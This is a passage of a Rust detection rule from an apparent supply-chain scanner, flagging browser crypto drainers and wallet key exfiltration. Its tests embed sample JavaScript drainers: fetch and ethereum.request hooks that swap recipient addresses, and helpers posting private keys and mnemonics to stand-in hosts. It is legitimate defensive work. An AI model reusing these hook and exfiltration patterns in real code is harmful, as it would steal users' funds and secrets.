//! `wallet-hijack`: browser crypto drainers and key stealers.
//!
//! Combines three kinds of fact from one file: hooks (an assignment that replaces `fetch`,
//! `XMLHttpRequest.prototype.open/send`, `window.ethereum.request`, a Solana or TronLink
//! provider method), hard-coded crypto addresses of several chains and address-matching
//! regular expressions, and similarity search (Levenshtein) to pick a look-alike address.
//! Separately, it flags secret keys handed to a local helper in a file that posts to a
//! hard-coded URL (the @solana/web3.js 1.95.6 `addToQueue` backdoor).

use std::sync::OnceLock;

use aho_corasick::AhoCorasick;
use palisade_core::{Capability, Confidence, Finding, Severity};

use super::signals::{self, finding, Needles};
use super::{FileRule, RuleInfo};
use crate::facts::{Call, FileFacts, Value};

pub struct WalletHijack;

static INFO: RuleInfo = RuleInfo {
    id: "wallet-hijack",
    severity: Severity::Critical,
    confidence: Confidence::High,
    capabilities: &[Capability::Wallet, Capability::Network],
    summary:
        "Hooks fetch/XMLHttpRequest or a wallet provider to swap crypto addresses, or sends wallet secret keys away",
    docs: r#"## What it detects

Code that intercepts what a web page sends or receives to steal cryptocurrency:

- **Address swapping**: `fetch` or `XMLHttpRequest.prototype.open/send` is replaced by a wrapper
  in a file that also hard-codes addresses of several chains (Ethereum `0x…`, Bitcoin legacy and
  bech32, Tron `T…`, Litecoin, Bitcoin Cash, Solana) or address-matching regular expressions,
  and picks the attacker address most similar to the victim's (Levenshtein distance) so the swap
  is hard to notice.
- **Transaction hijacking**: `window.ethereum.request`/`send`, a Solana (`window.solana`,
  Phantom) or TronLink provider method is replaced, in a file that names signing methods
  (`eth_sendTransaction`, `solana_signTransaction`, …) and hard-codes a receiving address.
- **Secret-key exfiltration**: wallet secret keys (`secretKey`, `privateKey`, seeds, mnemonics)
  are passed to a local helper from several places in a file that posts to a hard-coded URL.

## Real attacks

- chalk, debug, ansi-styles, supports-color and 14 other packages by the same maintainer
  (8 September 2025, phished account): a drainer prepended to the bundle hooked `fetch`,
  `XMLHttpRequest` and `window.ethereum.request`, rewrote addresses of six chains with the
  nearest attacker address by Levenshtein distance, and redirected `approve`/`transfer` calls.
- @solana/web3.js 1.95.6 and 1.95.7 (December 2024): `Keypair.fromSecretKey`, `fromSeed` and
  other key paths called `addToQueue(secretKey)`, which sent the key in HTTP headers to
  `sol-rpc.xyz`.

## Known false positives

Wallet SDKs call `window.ethereum.request` (a call, not a replacement) and are not flagged.
Instrumentation (Sentry, zone.js, mocking libraries) replaces `fetch`/`XMLHttpRequest` but
does not hard-code crypto addresses. A test suite shipping address fixtures next to an XHR
mock could match; the finding names the hook and the addresses so a reviewer can tell.
"#,
};

impl FileRule for WalletHijack {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
        if file.text.is_none() {
            return;
        }
        check_hooks(file, out);
        check_key_exfiltration(file, out);
    }
}

/// Whether none of `needles` (lower-case) occurs in `haystack` ignoring ASCII case, in one
/// automaton pass (most files name none; the few that do are then searched needle by needle,
/// which keeps the lists' order).
fn none_of(
    matcher: &'static OnceLock<Option<AhoCorasick>>,
    needles: impl Iterator<Item = &'static str>,
    haystack: &str,
) -> bool {
    // Built from constants, the automaton does not fail to build; if it did, no gate.
    matcher
        .get_or_init(|| {
            AhoCorasick::builder()
                .kind(Some(aho_corasick::AhoCorasickKind::DFA))
                .ascii_case_insensitive(true)
                .build(needles)
                .ok()
        })
        .as_ref()
        .is_some_and(|automaton| !automaton.is_match(haystack))
}

/// Which chain a hard-coded string is an address of, if any.
pub(crate) fn address_kind(value: &str) -> Option<&'static str> {
    let value = value.trim();
    // Every address form below is 15 to 75 characters long.
    if !(15..=75).contains(&value.len()) {
        return None;
    }
    let base58 = |s: &str| {
        s.bytes()
            .all(|b| b.is_ascii_alphanumeric() && !matches!(b, b'0' | b'O' | b'I' | b'l'))
    };
    let bech32 = |s: &str| s.bytes().all(|b| b"qpzry9x8gf2tvdw0s3jn54khce6mua7l".contains(&b));
    let mixed = |s: &str| {
        s.bytes().any(|b| b.is_ascii_uppercase())
            && s.bytes().any(|b| b.is_ascii_lowercase())
            && s.bytes().any(|b| b.is_ascii_digit())
    };
    let len = value.len();
    if len == 42 && value.starts_with("0x") && value[2..].bytes().all(|b| b.is_ascii_hexdigit()) {
        // The zero address and other all-same-digit constants are not anyone's wallet.
        let distinct = value[2..].bytes().collect::<std::collections::BTreeSet<_>>().len();
        return (distinct > 4).then_some("ethereum");
    }
    if let Some(rest) = value.strip_prefix("bc1") {
        return ((39..=59).contains(&rest.len()) && bech32(rest)).then_some("bitcoin");
    }
    if let Some(rest) = value.strip_prefix("ltc1") {
        return ((11..=71).contains(&rest.len()) && bech32(rest)).then_some("litecoin");
    }
    if let Some(rest) = value.strip_prefix("bitcoincash:") {
        return (rest.len() == 42 && rest.starts_with(['q', 'p'])).then_some("bitcoin-cash");
    }
    if !base58(value) || !mixed(value) {
        return None;
    }
    match value.as_bytes()[0] {
        b'1' | b'3' if (26..=35).contains(&len) => Some("bitcoin"),
        b'T' if len == 34 => Some("tron"),
        b'L' | b'M' if len == 34 => Some("litecoin"),
        _ if (32..=44).contains(&len) => Some("solana"),
        _ => None,
    }
}

/// Fragments of regular expressions that match addresses of one chain each.
const ADDRESS_PATTERNS: &[(&str, &str)] = &[
    ("ethereum", "0x[a-fa-f0-9]{40}"),
    ("ethereum", "0x[0-9a-fa-f]{40}"),
    ("ethereum", "0x[a-f0-9]{40}"),
    ("ethereum", "0x[0-9a-f]{40}"),
    ("bitcoin", "(bc1q|bc1p)"),
    ("bitcoin", "bc1[qp"),
    ("bitcoin", "bc1q[a-z0-9"),
    ("bitcoin", "[13][a-km-za-hj-np-z1-9]"),
    ("tron", "t[1-9a-hj-np-za-km-z]{33}"),
    ("litecoin", "ltc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]"),
    ("litecoin", "[lm][a-km-za-hj-np-z1-9]"),
    ("bitcoin-cash", "bitcoincash:[qp]"),
    ("solana", "[1-9a-hj-np-za-km-z]{32,44}"),
];

const TRANSACTION_METHODS: &[&str] = &[
    "eth_sendtransaction",
    "eth_signtransaction",
    "eth_sign",
    "eth_signtypeddata",
    "personal_sign",
    "solana_signtransaction",
    "solana_signandsendtransaction",
    "signandsendtransaction",
    "signtransaction",
    "0x095ea7b3", // approve(address,uint256)
    "0xa9059cbb", // transfer(address,uint256)
];

#[derive(Default)]
struct Hooks<'a> {
    network: Vec<(u32, &'a str)>,
    provider: Vec<(u32, &'a str)>,
}

fn is_network_hook(target: &str) -> bool {
    let target = target
        .trim_start_matches("window.")
        .trim_start_matches("globalThis.")
        .trim_start_matches("self.");
    matches!(
        target,
        "fetch"
            | "XMLHttpRequest.prototype.open"
            | "XMLHttpRequest.prototype.send"
            | "XMLHttpRequest.prototype.setRequestHeader"
            | "XMLHttpRequest"
    )
}

/// A path on a wallet provider the browser extension injected: `window.ethereum.request`,
/// `ethereum.send`, `window.phantom.solana.signTransaction`, `tronWeb.trx.sign`.
fn is_provider_path(path: &str) -> bool {
    let path = path
        .trim_start_matches("window.")
        .trim_start_matches("globalThis.")
        .trim_start_matches("self.");
    let root = path.split('.').next().unwrap_or(path);
    matches!(
        root,
        "ethereum"
            | "solana"
            | "phantom"
            | "tronWeb"
            | "tronLink"
            | "solflare"
            | "okxwallet"
            | "BinanceChain"
            | "trustwallet"
    )
}

const PROVIDER_METHODS: &[&str] = &[
    "request",
    "send",
    "sendAsync",
    "enable",
    "signTransaction",
    "signAllTransactions",
    "signAndSendTransaction",
    "signMessage",
    "sign",
    "sendTransaction",
];

fn collect_hooks<'a>(file: &'a FileFacts, names_transactions: bool) -> Hooks<'a> {
    let mut hooks = Hooks::default();
    let rewrites_recipient = recipient_rewrite(file).is_some();
    for assignment in &file.assignments {
        let target = assignment.target.as_str();
        if is_network_hook(target) {
            hooks.network.push((assignment.line, assignment.excerpt.as_str()));
            continue;
        }
        let method = signals::method(target);
        if !(PROVIDER_METHODS.contains(&method) && matches!(assignment.value, Value::Function)) {
            continue;
        }
        // `window.ethereum.request = …` replaces the injected provider. `w.request = …` on an
        // unresolved object is what every wallet SDK does to its own provider wrapper; it only
        // counts when the file also overwrites a transaction field with a hard-coded address.
        if is_provider_path(target) || (target.starts_with('?') && names_transactions && rewrites_recipient) {
            hooks.provider.push((assignment.line, assignment.excerpt.as_str()));
        }
    }
    for call in &file.calls {
        if call.callee == "Object.defineProperty" || call.callee == "Reflect.defineProperty" {
            let property = call.args.get(1).and_then(Value::as_str).unwrap_or("");
            match property {
                // Defining `window.ethereum` is what wallet extensions themselves do; only
                // redefining the network primitives is a hook.
                "fetch" | "XMLHttpRequest" => hooks.network.push((call.line, call.excerpt.as_str())),
                _ => {}
            }
        }
        if call.callee == "Proxy" && call.is_new && call.args.first().is_some_and(provider_value) {
            hooks.provider.push((call.line, call.excerpt.as_str()));
        }
    }
    hooks
}

/// An assignment of a hard-coded address to a transaction field: `tx.to = '0x…'`,
/// `tx.feePayer = ATTACKER` (const bindings are folded by the extractor).
fn recipient_rewrite(file: &FileFacts) -> Option<&crate::facts::Assignment> {
    file.assignments.iter().find(|assignment| {
        matches!(
            signals::method(&assignment.target),
            "to" | "feePayer" | "recipient" | "destination" | "receiver"
        ) && assignment.value.as_str().and_then(address_kind).is_some()
    })
}

fn provider_value(value: &Value) -> bool {
    match value {
        Value::Member { path } => is_provider_path(path),
        Value::Ident { name } => is_provider_path(name),
        _ => false,
    }
}

fn check_hooks(file: &FileFacts, out: &mut Vec<Finding>) {
    // Cheap gate: no assignment to a hookable name, no defineProperty/Proxy, no address.
    let candidate = file
        .assignments
        .iter()
        .any(|a| is_network_hook(&a.target) || PROVIDER_METHODS.contains(&signals::method(&a.target)))
        || file.calls.iter().any(|c| {
            matches!(
                c.callee.as_str(),
                "Object.defineProperty" | "Reflect.defineProperty" | "Proxy"
            )
        });
    let mut kinds: Vec<&'static str> = Vec::new();
    let mut addresses: Vec<&str> = Vec::new();
    for string in &file.strings {
        if let Some(kind) = address_kind(&string.value) {
            if !kinds.contains(&kind) {
                kinds.push(kind);
            }
            addresses.push(&string.value);
        }
    }
    if !candidate && addresses.is_empty() {
        return;
    }
    // Searched ignoring ASCII case, without a lower-cased copy of the whole text.
    let text = file.text.as_deref().unwrap_or("");
    // Solana-shaped strings are any long base58 word; only count them next to other chains.
    let strong_kinds = kinds.iter().filter(|kind| **kind != "solana").count();
    let kinds_count = if strong_kinds > 0 { kinds.len() } else { 0 };
    // Every finding below needs a hook, or a similarity search plus address patterns: files
    // with neither (most large bundles that pass the gate) stop before the text searches.
    let possible_hooks = collect_hooks(file, true);
    let similarity = signals::contains_any_ignore_ascii_case(text, &["levenshtein", "editdistance"])
        || signals::contains_ignoring_whitespace(text, "[i-1][j-1]")
        || signals::contains_ignoring_whitespace(text, "[j-1][i-1]");
    if possible_hooks.network.is_empty() && possible_hooks.provider.is_empty() && !similarity {
        return;
    }
    // One automaton pass rules out most files at once.
    let transaction_methods: Vec<&str> = {
        static MATCHER: OnceLock<Option<AhoCorasick>> = OnceLock::new();
        if possible_hooks.provider.is_empty() || none_of(&MATCHER, TRANSACTION_METHODS.iter().copied(), text) {
            Vec::new()
        } else {
            let found = signals::found_ignore_ascii_case(text, TRANSACTION_METHODS, false);
            TRANSACTION_METHODS
                .iter()
                .zip(found)
                .filter_map(|(method, found)| found.then_some(*method))
                .collect()
        }
    };
    // The hooks found assuming transaction methods are named, unless some are not and a
    // provider hook depends on it.
    let hooks = if transaction_methods.is_empty() && !possible_hooks.provider.is_empty() {
        collect_hooks(file, false)
    } else {
        possible_hooks
    };
    // Address-matching regular expressions, as written in the source (regex literals keep
    // their characters together; whitespace inside one would change what it matches).
    let mut pattern_kinds: Vec<&str> = Vec::new();
    if contains_any_fragment(text, ADDRESS_PATTERNS.iter().map(|(_, f)| *f)) {
        let fragments: Vec<&str> = ADDRESS_PATTERNS.iter().map(|(_, f)| *f).collect();
        let found = signals::found_ignore_ascii_case(text, &fragments, false);
        for ((kind, _), found) in ADDRESS_PATTERNS.iter().zip(found) {
            if found && !pattern_kinds.contains(kind) {
                pattern_kinds.push(kind);
            }
        }
    }
    let rewrites_addresses = kinds_count >= 2 || (pattern_kinds.len() >= 2 && (similarity || kinds_count >= 1));
    let address_summary = || {
        let mut parts = Vec::new();
        if !kinds.is_empty() {
            parts.push(format!("hard-coded {} address(es)", kinds.join("/")));
        }
        if !pattern_kinds.is_empty() {
            parts.push(format!("regular expressions for {} addresses", pattern_kinds.join("/")));
        }
        if similarity {
            parts.push("a similarity (Levenshtein) search to pick a look-alike".to_string());
        }
        parts.join(", ")
    };

    if let Some((line, excerpt)) = hooks.network.first() {
        if rewrites_addresses {
            out.push(finding(
                &INFO,
                file,
                *line,
                Severity::Critical,
                Confidence::High,
                format!(
                    "Replaces fetch/XMLHttpRequest and carries {}: the shape of the September 2025 chalk/debug crypto clipper, which rewrote wallet addresses in every web response.",
                    address_summary()
                ),
                excerpt,
            ));
            return;
        }
    }
    if let Some((line, excerpt)) = hooks.provider.first() {
        if !transaction_methods.is_empty() && (strong_kinds > 0 || rewrites_addresses) {
            out.push(finding(
                &INFO,
                file,
                *line,
                Severity::Critical,
                Confidence::High,
                format!(
                    "Replaces a wallet provider method and rewrites {} requests with {}: transactions would go to the attacker.",
                    transaction_methods.join("/"),
                    address_summary()
                ),
                excerpt,
            ));
            return;
        }
        if !transaction_methods.is_empty() {
            out.push(finding(
                &INFO,
                file,
                *line,
                Severity::High,
                Confidence::Medium,
                format!(
                    "Replaces a browser wallet provider method in a file that handles {} requests: a hook that can alter what the user signs.",
                    transaction_methods.join("/")
                ),
                excerpt,
            ));
            return;
        }
    }
    if rewrites_addresses && similarity && pattern_kinds.len() >= 2 {
        let line = file
            .strings
            .iter()
            .find(|s| address_kind(&s.value).is_some())
            .map(|s| s.line)
            .unwrap_or(1);
        out.push(finding(
            &INFO,
            file,
            line,
            Severity::High,
            Confidence::Medium,
            format!(
                "Searches text for crypto addresses and replaces them: {}.",
                address_summary()
            ),
            "",
        ));
    }
}

/// Whether `text` contains any of `fragments` (lower-case regular-expression fragments),
/// ignoring ASCII case. Fragments with a `[` are looked for only where the text has one (found
/// with `memchr`, then compared in place), which is far quicker on large bundles than an
/// automaton whose candidate bytes (`t`, `b`, `0`) occur everywhere.
fn contains_any_fragment<'a>(text: &str, fragments: impl Iterator<Item = &'a str>) -> bool {
    let bytes = text.as_bytes();
    let mut anchored: Vec<(usize, &[u8])> = Vec::new();
    for fragment in fragments {
        match fragment.find('[') {
            Some(at) => anchored.push((at, fragment.as_bytes())),
            None if signals::contains_any_ignore_ascii_case(text, &[fragment]) => return true,
            None => {}
        }
    }
    memchr::memchr_iter(b'[', bytes).any(|bracket| {
        anchored.iter().any(|&(at, fragment)| {
            bracket
                .checked_sub(at)
                .and_then(|start| bytes.get(start..start + fragment.len()))
                .is_some_and(|window| window.eq_ignore_ascii_case(fragment))
        })
    })
}

/// Names of values that hold wallet secrets.
/// `secretKey`, `_keypair.secretKey`, `privateKey`, `mnemonic`; not `privateKeyFile`.
fn is_secret_name(name: &str) -> bool {
    let lower = name.to_ascii_lowercase().replace('_', "");
    [
        "secretkey",
        "privatekey",
        "privkey",
        "mnemonic",
        "seedphrase",
        "recoveryphrase",
    ]
    .iter()
    .any(|s| lower.ends_with(s))
}

/// Callee names that legitimately take secret keys: crypto primitives, converters, storage.
fn is_key_handling_callee(name: &str) -> bool {
    let lower = name.trim_start_matches('?').to_ascii_lowercase();
    const PREFIXES: &[&str] = &[
        "to", "from", "is", "get", "set", "new", "create", "generate", "load", "save", "store", "import", "export",
        "parse", "serial", "copy", "fill", "wipe", "clear", "zero", "check", "assert", "valid", "verify", "sign",
        "log", "emit", "push", "concat", "slice", "encode", "decode", "hash", "derive", "compare", "equal", "write",
        "read", "print", "format", "throw", "expect",
    ];
    const PARTS: &[&str] = &[
        "key", "seed", "sign", "crypt", "hash", "hmac", "address", "public", "wallet", "account", "buffer", "array",
        "hex", "bytes", "length", "error", "warn", "debug", "json", "string", "mnemonic", "entropy", "cipher",
    ];
    PREFIXES.iter().any(|prefix| lower.starts_with(prefix)) || PARTS.iter().any(|part| lower.contains(part))
}

/// Whether a call's source or arguments could name a secret at all: every name
/// [`is_secret_name`] accepts contains `key`, `mnemonic` or `phrase` (any case). One automaton
/// check per call instead of walking every call's argument list. Callers check the excerpt
/// (for all calls at once); this looks at the folded argument names, which may come from a
/// binding elsewhere.
fn may_name_secret(call: &Call) -> bool {
    let names = |text: &str| {
        signals::contains_ignore_ascii_case(text, "key")
            || signals::contains_ignore_ascii_case(text, "mnemonic")
            || signals::contains_ignore_ascii_case(text, "phrase")
    };
    call.args.iter().any(|arg| match arg {
        Value::Ident { name } => names(name),
        Value::Member { path } => names(path),
        _ => false,
    })
}

fn secret_argument(call: &Call) -> Option<String> {
    let from_values = call.args.iter().find_map(|arg| match arg {
        Value::Ident { name } if is_secret_name(name) => Some(name.clone()),
        Value::Member { path } if is_secret_name(signals::method(path)) => Some(path.clone()),
        _ => None,
    });
    if from_values.is_some() {
        return from_values;
    }
    // Arguments the extractor kept as Unknown (`this._keypair.secretKey`): read the excerpt's
    // argument list, one top-level argument at a time, and accept only plain member chains
    // (a callback whose body mentions a key is not the key).
    if call.args.iter().any(|arg| matches!(arg, Value::Function)) {
        return None;
    }
    signals::call_arguments(&call.excerpt)
        .into_iter()
        .find(|argument| {
            !argument.is_empty()
                && argument
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '$' | '.'))
                && is_secret_name(signals::method(argument))
        })
        .map(str::to_string)
}

fn is_literal_remote_url(call: &Call) -> bool {
    call.args.first().and_then(Value::as_str).is_some_and(|url| {
        let url = url.to_ascii_lowercase();
        (url.starts_with("https://") || url.starts_with("http://"))
            && !["://localhost", "://127.", "://[::1]", "://0.0.0.0"]
                .iter()
                .any(|l| url.contains(l))
    })
}

fn posts_to_literal_url(file: &FileFacts) -> Option<&Call> {
    file.calls
        .iter()
        .find(|call| signals::is_network_call(call) && is_literal_remote_url(call))
}

/// A request to a hard-coded URL whose own arguments carry a wallet secret:
/// `fetch('https://…', { body: JSON.stringify({ key: wallet.secretKey }) })`.
fn secret_in_request(file: &FileFacts) -> Option<(&Call, String)> {
    file.calls.iter().find_map(|call| {
        if !signals::is_network_call(call) || !is_literal_remote_url(call) {
            return None;
        }
        if call.args.iter().any(|arg| matches!(arg, Value::Function)) {
            return None;
        }
        let (_, arguments) = call.excerpt.split_once('(')?;
        let secret = arguments
            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
            .find(|word| is_secret_name(word))?;
        Some((call, secret.to_string()))
    })
}

fn report_secret_in_request(file: &FileFacts, out: &mut Vec<Finding>) {
    if let Some((call, secret)) = secret_in_request(file) {
        let url = call.args.first().and_then(Value::as_str).unwrap_or("");
        out.push(finding(
            &INFO,
            file,
            call.line,
            Severity::High,
            Confidence::Medium,
            format!(
                "Sends wallet secret `{secret}` to a hard-coded address ({}): private keys and seed phrases never need to leave the machine.",
                palisade_core::bounded_excerpt(url, 80)
            ),
            &call.excerpt,
        ));
    }
}

/// The network call, to a hard-coded URL, inside the local function `name` that sends one of
/// the function's parameters: `function checkValidityOfSeed(seed) { fetch('https://…',
/// { headers: { 'ad-referral': seed } }) }`. Definitions are found by text
/// (`function name(`, `name = (`, `name = function (`, a method `name(…) {`), the call within
/// 20 lines after.
fn helper_sends_parameter<'a>(file: &'a FileFacts, name: &str) -> Option<&'a Call> {
    let text = file.text.as_deref()?;
    let patterns = [
        format!("function {name}("),
        format!("{name} = function ("),
        format!("{name} = function("),
        format!("{name} = ("),
        format!("{name}("),
    ];
    for (index, line) in text.lines().enumerate().take(20_000) {
        // Most lines do not name the helper at all.
        if memchr::memmem::find(line.as_bytes(), name.as_bytes()).is_none() {
            continue;
        }
        let trimmed = line.trim_start();
        let after_name = patterns.iter().find_map(|pattern| {
            let at = trimmed.find(pattern.as_str())?;
            // A method definition starts the line (`static name(`, `async name(`); a call
            // elsewhere on a line is a use, not a definition.
            let method = pattern.as_str() == format!("{name}(");
            let head = &trimmed[..at];
            let defines = !method || head.is_empty() || ["static ", "async ", "static async "].contains(&head);
            (defines && (!method || trimmed.trim_end().ends_with('{'))).then(|| &trimmed[at + pattern.len()..])
        });
        let Some(rest) = after_name else { continue };
        let params: Vec<&str> = rest
            .split(')')
            .next()
            .unwrap_or("")
            .split(',')
            .filter_map(|p| p.split('=').next())
            .map(|p| p.trim().trim_start_matches("..."))
            .filter(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$'))
            .take(8)
            .collect();
        if params.is_empty() {
            continue;
        }
        let start = u32::try_from(index + 1).unwrap_or(u32::MAX);
        let sends = file.calls.iter().find(|call| {
            call.line >= start
                && call.line <= start.saturating_add(20)
                && signals::is_network_call(call)
                && is_literal_remote_url(call)
                && call
                    .excerpt
                    .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
                    .skip(1)
                    .any(|word| params.contains(&word))
        });
        if sends.is_some() {
            return sends;
        }
    }
    None
}

fn check_key_exfiltration(file: &FileFacts, out: &mut Vec<Finding>) {
    let mut sites: Vec<(&str, &Call, String)> = Vec::new();
    // Calls whose source could name a secret, found in one pass over all excerpts.
    static SECRET_WORDS: Needles = Needles::new(&["key", "mnemonic", "phrase"]);
    let mut named = vec![false; file.calls.len()];
    // Whether each helper name already looked up sends its parameter (names repeat).
    let mut helpers: Vec<(&str, bool)> = Vec::new();
    for index in SECRET_WORDS.items(file.excerpts_blob()) {
        if let Some(slot) = named.get_mut(index) {
            *slot = true;
        }
    }
    for (index, call) in file.calls.iter().enumerate() {
        if !named.get(index).copied().unwrap_or(true) && !may_name_secret(call) {
            continue;
        }
        let callee = call.callee.as_str();
        let root = callee.split('.').next().unwrap_or(callee);
        // Calls into imported modules (bs58.encode, nacl.sign) are library code, not a local sink.
        if call.is_new || file.imports.iter().any(|import| import == root) || signals::is_network_call(call) {
            continue;
        }
        let name = signals::method(callee);
        if name.is_empty() || name == "?" {
            continue;
        }
        let Some(secret) = secret_argument(call) else { continue };
        // A helper named like a check or converter (`checkValidityOfSeed`) is still the sink
        // when its own body sends its parameter to the network.
        if is_key_handling_callee(name) {
            let sends = match helpers.iter().find(|(helper, _)| *helper == name) {
                Some((_, sends)) => *sends,
                None => {
                    let sends = helper_sends_parameter(file, name).is_some();
                    helpers.push((name, sends));
                    sends
                }
            };
            if !sends {
                continue;
            }
        }
        sites.push((name, call, secret));
    }
    if sites.is_empty() {
        report_secret_in_request(file, out);
        return;
    }
    let Some(sink) = posts_to_literal_url(file) else {
        report_secret_in_request(file, out);
        return;
    };
    let (name, call, secret) = &sites[0];
    let same_callee = sites.iter().filter(|(other, _, _)| other == name).count();
    let (severity, confidence) = if same_callee >= 2 {
        (Severity::Critical, Confidence::High)
    } else {
        (Severity::High, Confidence::Medium)
    };
    let url = sink.args.first().and_then(Value::as_str).unwrap_or("");
    out.push(finding(
        &INFO,
        file,
        call.line,
        severity,
        confidence,
        format!(
            "Passes wallet secret `{secret}` to `{name}` ({same_callee} call site(s)) in a file that sends requests to {}: how @solana/web3.js 1.95.6 leaked private keys.",
            palisade_core::bounded_excerpt(url, 80)
        ),
        &call.excerpt,
    ));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fragment_search_is_substring_search() {
        let fragments = || ADDRESS_PATTERNS.iter().map(|(_, f)| *f);
        for (_, fragment) in ADDRESS_PATTERNS {
            for text in [
                fragment.to_string(),
                format!("x = /{fragment}/g;"),
                format!("[[{fragment}"),
                fragment.to_ascii_uppercase(),
            ] {
                assert!(contains_any_fragment(&text, fragments()), "{text}");
            }
            // Cut short, or with the bracket moved, it no longer matches.
            let cut = &fragment[..fragment.len() - 1];
            assert_eq!(
                contains_any_fragment(cut, fragments()),
                fragments().any(|f| cut.contains(f)),
                "{cut}"
            );
        }
        for text in [
            "",
            "[",
            "a[b]c",
            "0x[",
            "bc1q|bc1",
            "[13]",
            "t[1-9a-hj-np-za-km-z]{3",
            "(BC1Q|bc1P)",
        ] {
            assert_eq!(
                contains_any_fragment(text, fragments()),
                fragments().any(|f| text.to_ascii_lowercase().contains(f)),
                "{text}"
            );
        }
    }
    use crate::facts;

    fn run(source: &str) -> Vec<Finding> {
        let file = facts::extract("index.js", source.as_bytes(), 0o644);
        let mut out = Vec::new();
        WalletHijack.check(&file, &mut out);
        out
    }

    fn worst(findings: &[Finding]) -> Option<Severity> {
        findings.iter().map(|f| f.severity).max()
    }

    #[test]
    fn classifies_addresses() {
        assert_eq!(
            address_kind("0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"),
            Some("ethereum")
        );
        assert_eq!(address_kind("0x0000000000000000000000000000000000000000"), None);
        assert_eq!(
            address_kind("bc1qms4f8ys8c4z47h0q29nnmyekc9r74u5ypqw6wm"),
            Some("bitcoin")
        );
        assert_eq!(address_kind("1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx"), Some("bitcoin"));
        assert_eq!(address_kind("TB9emsCq6fQw6wRk4HBxxNnU6Hwt1DnV67"), Some("tron"));
        assert_eq!(address_kind("LNFWHeiSjb4QB4iSHMEvaZ8caPwtz4t6Ug"), Some("litecoin"));
        assert_eq!(address_kind("application/json"), None);
        assert_eq!(address_kind("abcdefghijklmnopqrstuvwxyzabcdefgh"), None);
    }

    #[test]
    fn flags_fetch_hook_with_addresses() {
        let source = r#"
const targets = ['0x3b6a1c9e2d4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b', 'bc1q9h7garjh5sl6t0xsq5lnw7vh4g8ltr93fm7pzc', 'TXk4bTgBbrsd6pS2Uy8yCz2RXwTXY5LCv3'];
function closest(a, list) { let best = list[0]; return best; }
const original = window.fetch;
window.fetch = async function (...args) {
  const response = await original(...args);
  const body = await response.clone().text();
  return new Response(body.replace(/0x[a-fA-F0-9]{40}/g, (m) => closest(m, targets)));
};
"#;
        let findings = run(source);
        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
        assert_eq!(findings[0].line, Some(5));
    }

    #[test]
    fn flags_xhr_hook_with_patterns_and_levenshtein() {
        let source = r#"
function lev(a, b) { const m = []; for (let i = 1; i <= b.length; i++) for (let j = 1; j <= a.length; j++)
  m[i][j] = Math.min(m[i - 1][j - 1] + 1, m[i][j - 1] + 1); return m[b.length][a.length]; }
const patterns = { eth: /\b0x[a-fA-F0-9]{40}\b/g, btc: /\b(bc1q|bc1p)[0-9a-z]{38,58}\b/g };
const send = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) { return send.apply(this, arguments); };
"#;
        assert_eq!(worst(&run(source)), Some(Severity::Critical));
    }

    #[test]
    fn flags_ethereum_request_hook() {
        let source = r#"
if (window.ethereum) {
  const original = window.ethereum.request;
  window.ethereum.request = async function (args) {
    if (args.method === 'eth_sendTransaction') { args.params[0].to = '0x71c7656ec7ab88b098defb751b7401b5f6d8976f'; }
    return original.call(this, args);
  };
}
"#;
        assert_eq!(worst(&run(source)), Some(Severity::Critical));
    }

    #[test]
    fn helper_named_like_a_check_that_sends_its_parameter_is_the_sink() {
        // xrpl.js 4.2.1 (April 2025): `checkValidityOfSeed` posted every key to 0x9c.xyz.
        let source = r#"
function checkValidityOfSeed(seed) {
  fetch("https://0x9c.example/xc", { method: "POST", headers: { "ad-referral": seed } }).catch(() => {});
}
class Wallet {
  constructor(publicKey, privateKey) { this.privateKey = privateKey; checkValidityOfSeed(privateKey); }
  static fromMnemonic(mnemonic) { checkValidityOfSeed(mnemonic); return new Wallet("p", "k"); }
}
"#;
        let findings = run(source);
        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
        assert!(
            findings[0].message.contains("checkValidityOfSeed"),
            "{}",
            findings[0].message
        );
        // The same check that only validates locally, in a file that reports metrics.
        let local = r#"
function checkValidityOfSeed(seed) {
  if (typeof seed !== "string" || seed.length < 16) throw new Error("bad seed");
}
class Wallet {
  constructor(publicKey, privateKey) { checkValidityOfSeed(privateKey); }
  static fromMnemonic(mnemonic) { checkValidityOfSeed(mnemonic); return new Wallet("p", "k"); }
}
fetch("https://metrics.example/v1/event", { method: "POST", body: "{}" });
"#;
        assert!(run(local).is_empty(), "{:#?}", run(local));
    }

    #[test]
    fn flags_secret_key_exfiltration() {
        let source = r#"
class Queue {
  static enqueue(k) { fetch("https://rpc-metrics.example/api/queue", { method: "POST", headers: { "x-id": String(k) } }).catch(() => {}); }
}
class Pair {
  static fromSecretKey(secretKey) { Queue.enqueue(secretKey); return new Pair(secretKey); }
  static fromSeed(seed) { const privateKey = derive(seed); Queue.enqueue(privateKey); return new Pair(privateKey); }
}
"#;
        let findings = run(source);
        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
    }

    #[test]
    fn flags_secret_in_a_request() {
        let source = r#"
export async function backup(wallet) {
  await fetch('https://wallet-sync.example.invalid/api/backup', { method: 'POST', body: JSON.stringify({ k: wallet.secretKey }) });
}
"#;
        assert_eq!(worst(&run(source)), Some(Severity::High));
    }

    #[test]
    fn quiet_on_wallet_sdk_calls() {
        let source = r#"
export async function connect() {
  const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' });
  const tx = await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: accounts[0], to: '0x71c7656ec7ab88b098defb751b7401b5f6d8976f' }] });
  return tx;
}
"#;
        assert!(run(source).is_empty());
    }

    #[test]
    fn quiet_on_sdk_wrapping_its_own_provider() {
        // @metamask/sdk, WalletConnect: `w.request = …` on the SDK's own provider object, in a
        // bundle that names signing methods and token contract addresses.
        let source = r#"
